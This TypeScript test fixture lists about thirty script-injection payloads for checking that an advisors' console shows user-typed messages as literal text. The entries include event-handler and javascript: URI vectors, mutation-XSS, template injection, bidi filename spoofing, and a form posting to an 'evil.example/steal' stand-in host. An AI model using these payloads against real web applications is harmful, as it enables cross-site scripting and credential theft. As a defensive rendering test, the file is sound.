/**
 * Script-injection payloads a jobseeker (or anyone reaching the bot) could type, shown in the advisors'
 * console. Each tries to run code (setting `window.__pwned` or opening a dialog), to load something from
 * elsewhere, or to disguise text. Rendered safely, each must appear as the literal text that was typed.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<img src=x onerror="window.__pwned=1;alert(1)">',
  '<svg onload="window.__pwned=1;alert(2)"></svg>',
  '<svg><script>window.__pwned=1;alert(3)</script></svg>',
  '<iframe srcdoc="<script>parent.__pwned=1;parent.alert(4)</script>"></iframe>',
  '<script>window.__pwned=1;alert(5)</script>',
  '"><img src=x onerror=alert(6)>',
  "'-alert(7)-'",
  '[click me](javascript:window.__pwned=1;alert(8))',
  'javascript:window.__pwned=1;alert(9)',
  'JaVaScRiPt:alert(10)',
  ' javascript:alert(11)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=',
  '<a href="javascript:alert(13)">tap</a>',
  '<a href="data:text/html,<script>alert(14)</script>">tap</a>',
  '![tracker](https://tracker.example/pixel.png)',
  '<img src="https://tracker.example/pixel.png">',
  'https://www.example.org/path"onmouseover="window.__pwned=1',
  'http://example.org/<img src=x onerror=alert(15)>',
  'vbscript:msgbox(16)',
  '<object data="javascript:alert(17)"></object><embed src="javascript:alert(18)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(19)">',
  '<style>body{display:none}</style><link rel=stylesheet href="https://evil.example/x.css">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(20)>',
  '<form action="https://evil.example/steal"><button>OK</button></form>',
  '{{constructor.constructor("window.__pwned=1;alert(21)")()}}',
  '${alert(22)}',
  '__proto__',
  'Facture\u202Egpj.exe',
  'abc\u2066\u202Edef\u2069 \u200F\u061C',
  '<details open ontoggle="window.__pwned=1;alert(23)">',
  '<input autofocus onfocus="window.__pwned=1;alert(24)">',
];
